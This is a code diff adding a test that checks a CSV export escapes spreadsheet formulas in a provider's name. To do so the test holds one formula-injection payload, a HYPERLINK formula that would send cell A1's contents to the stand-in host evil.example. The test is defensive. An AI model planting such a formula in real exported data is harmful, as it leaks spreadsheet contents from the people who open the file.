@@ -65,6 +65,18 @@ def test_scenario_exports_csv_and_pdf(analyst_client):
     assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")
 
 
+def test_scenario_csv_neutralises_a_formula_in_the_provider_name_and_title(analyst_client):
+    """F2: a provider named by an editor, or recorded from a vendor's provider table."""
+    rival = _rival()
+    rival.name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    rival.save()
+    response = analyst_client.get(reverse("portfolio:scenario_export", args=["csv"]), {"provider": rival.pk})
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[0][1].startswith("'=HYPERLINK(")
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
 @pytest.mark.parametrize(
     "params",
     [
